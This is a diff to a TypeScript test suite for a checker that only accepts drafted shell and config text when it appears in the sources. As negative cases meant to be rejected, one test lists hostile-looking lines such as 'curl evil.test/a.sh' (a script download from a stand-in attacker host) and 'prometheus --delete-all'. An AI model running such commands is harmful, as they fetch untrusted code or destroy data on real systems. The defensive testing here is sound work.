@@ -26,6 +26,7 @@ const material = materialOf([
     text: 'The heap is set by -Xms16g. A role is made at "localhost:9200/_security/role/my_role", and a user named with "roles". Wait `P3D`.',
     siteName: "Search",
   },
+  { text: 'Paths are set so:\n\n```sh\necho set\nexport SHOP="$HOST/.shop/bin:$SHOP"\n```', siteName: "Paths" },
   { text: "The evil_flag of Zorblax and https://collector.test are told of here alone.", siteName: "Elsewhere" },
 ]);
 const { id } = material;
@@ -181,6 +182,34 @@ describe("code that is put together", () => {
     expect(asked).toMatchObject([{ claim: kept }]);
     const long = `# ${"so ".repeat(60)}\nscrape_configs:\n  - job_name: shop_api`;
     expect((await proven(drafted("inference", long, [WINDOW]))).sentence?.text).toBe("scrape_configs:\n  - job_name: shop_api");
+  });
+
+  it("R12 R14 may have a few words of its own among many of its sources, which are told as chosen", async () => {
+    const many = `${SHELL} \\\n  --storage.tsdb.retention.time=60d\n`;
+    const found = await proven(drafted("inference", `${many}prometheus --web.admin`, [FLAG, KEPT]));
+    expect(found.sentence?.calculations).toEqual([{ result: "--web.admin", expression: "chosen", chosen: true, inputs: [] }]);
+    for (const line of [
+      "prometheus --web.admin --web.user",
+      "prometheus https://evil.test",
+      "curl evil.test/a.sh",
+      "prometheus --delete-all",
+    ])
+      expect((await proven(drafted("inference", many + line, [FLAG, KEPT]))).reason).toContain("stands in no source");
+  });
+
+  it("R12 R14 takes a line that a source has, whatever stands in it, and no word of it elsewhere", async () => {
+    const text = 'export SHOP="$HOST/.shop/bin:$SHOP"\nprometheus --config.file=/etc/prometheus/prometheus.yml';
+    const [block, own] = [id("$HOST/.shop/bin"), FLAG];
+    expect((await proven(drafted("inference", text, [block, own]))).sentence?.text).toBe(text);
+    expect((await proven(drafted("inference", `${text}\nexport FOLDER="$HOST/.shop/bin:$SHOP"`, [block, own]))).reason).toContain(
+      "HOST/.shop/bin",
+    );
+  });
+
+  it("R12 R14 takes what a pipeline's file sets for its jobs", async () => {
+    const text = "env:\n  FOLDER: /etc/prometheus\nrun: prometheus --config.file=$FOLDER/prometheus.yml";
+    expect((await proven(drafted("inference", text, [FLAG]))).sentence?.text).toBe(text);
+    expect((await proven(drafted("inference", text.replace("/etc/prometheus\n", "/evil\n"), [FLAG]))).reason).toContain("/evil");
   });
 
   it("R12 R14 keeps a comment that names what another sentence of its pages does", async () => {
